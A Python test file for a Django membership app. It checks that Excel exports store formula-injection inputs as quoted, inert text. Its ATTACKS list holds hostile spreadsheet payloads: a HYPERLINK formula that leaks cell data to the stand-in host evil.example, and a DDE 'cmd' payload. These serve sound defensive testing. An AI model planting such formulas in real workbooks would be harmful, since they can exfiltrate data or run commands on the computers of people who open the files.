"""Formula injection: text a member or staff typed never becomes a live formula in an exported workbook."""

from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from lvzhi.activities import services
from lvzhi.activities.models import Activity
from lvzhi.activities.tests.factories import make_activity
from lvzhi.core.capabilities import Role
from lvzhi.core.xlsx import put, safe_row, save
from lvzhi.dashboard.tests.test_activity_stats import YEAR, held
from lvzhi.ledger.taxonomy import ActivityKind
from lvzhi.org.models import Member
from lvzhi.org.tests.test_export import export

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1",
]


def cells(content: bytes, sheet: str | None = None) -> list:
    book = load_workbook(BytesIO(content))
    return [cell for row in (book[sheet] if sheet else book.active).iter_rows() for cell in row]


def assert_inert(found: list, text: str) -> None:
    matching = [c for c in found if c.value == text]
    assert matching, f"{text!r} missing from the workbook"
    assert all(c.data_type == "s" and c.quotePrefix for c in matching)


@pytest.mark.parametrize("write_only", [True, False])
def test_the_kit_writes_every_formula_trigger_as_quoted_text(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("数据")
    sheet.append(safe_row(sheet, [*ATTACKS, "正常文字", 7, "#N/A"]))
    if not write_only:
        put(sheet, 2, 1, "=1+1")
    found = cells(save(book), "数据")
    for text in [*ATTACKS, "#N/A"]:
        assert_inert(found, text)
    plain = next(c for c in found if c.value == "正常文字")
    assert not plain.quotePrefix and next(c for c in found if c.value == 7).data_type == "n"


def test_member_text_in_the_directory_export_stays_text(world):
    Member.objects.filter(pk=world.member.pk).update(wechat=ATTACKS[0][:40], expertise=ATTACKS[1])
    response = export(world.client(Role.MEMBER_AFFAIRS))  # the background export, as the directory's button runs it
    found = cells(b"".join(response.streaming_content) if response.streaming else response.content)
    assert_inert(found, ATTACKS[0][:40])
    assert_inert(found, ATTACKS[1])
    assert not any(c.data_type == "f" for c in found)


def test_the_roster_export_keeps_titles_and_leave_reasons_as_text(world):
    activity = make_activity(world, title="=1+1 座谈会")
    registration = services.register_for_activity(activity, member=world.member, actor=world.member.user)
    Activity.objects.filter(pk=activity.pk).update(title="=1+1 座谈会")
    registration.attendance_note = "-来不了"
    registration.save(update_fields=["attendance_note"])
    response = world.client(Role.MEMBER_AFFAIRS).get(reverse("activities:manage_roster_export", args=[activity.pk]))
    found = cells(response.content)
    assert_inert(found, "=1+1 座谈会")
    assert_inert(found, "-来不了")


def test_group_names_in_the_statistics_export_stay_text(world):
    world.group.name = "=年度统计"
    world.group.save(update_fields=["name"])
    held(world, ActivityKind.SECTOR_ACTIVITY, [world.member], checked_in=[world.member], group=world.group)
    response = world.client(Role.LEADER).get(
        reverse("dashboard:activities_export"), {"year": YEAR, "group_by": "sector_group"}
    )
    assert_inert(cells(response.content), "=年度统计")


@pytest.mark.parametrize("write_only", [True, False])
def test_the_kit_drops_characters_a_worksheet_cannot_hold(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("数据")
    sheet.append(safe_row(sheet, ["报送\x0b社情\x1b民意", "=\x01危险", 7]))
    if not write_only:
        put(sheet, 2, 1, "站点\x00名称")
    found = [c.value for c in cells(save(book), "数据")]
    assert "报送社情民意" in found and "=危险" in found and 7 in found
    assert write_only or "站点名称" in found
